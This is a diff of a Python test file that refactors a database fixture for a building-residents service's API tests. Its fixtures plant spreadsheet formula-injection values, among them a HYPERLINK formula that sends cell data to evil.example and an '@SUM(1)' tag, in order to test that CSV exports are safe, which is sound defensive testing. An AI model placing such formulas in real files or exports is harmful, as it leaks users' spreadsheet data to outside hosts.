@@ -26,12 +26,10 @@ from service.api.main import create_app
 from service.commands.planfiles import write_plan
 from service.settings import Settings
 from service.storage import models as m
-from service.storage.session import make_engine, session_scope
 from tests.service.residents_seed import (
     GRID_A1,
     password,
-    seed_residents,
-    use_fast_password_hashing,
+    residents_session,
 )
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
@@ -111,14 +109,10 @@ def test_problems_csv_is_safe(tmp_path):
 # --------------------------------------------------------------------------- service outputs
 @pytest.fixture
 def api(store_url, monkeypatch):
-    use_fast_password_hashing(monkeypatch)
-    seed_residents(store_url)
-    engine = make_engine(store_url)
-    with session_scope(engine) as s:
+    with residents_session(store_url, monkeypatch) as s:
         building = update(m.Building).where(m.Building.id == "B00110")
         s.execute(building.values(name=LINK, address="-1 路"))
         s.execute(update(m.Person).where(m.Person.id == "pA1").values(name=LINK, tags="@SUM(1)"))
-    engine.dispose()
     with TestClient(create_app(Settings(database_url=store_url))) as client:
         yield client
 
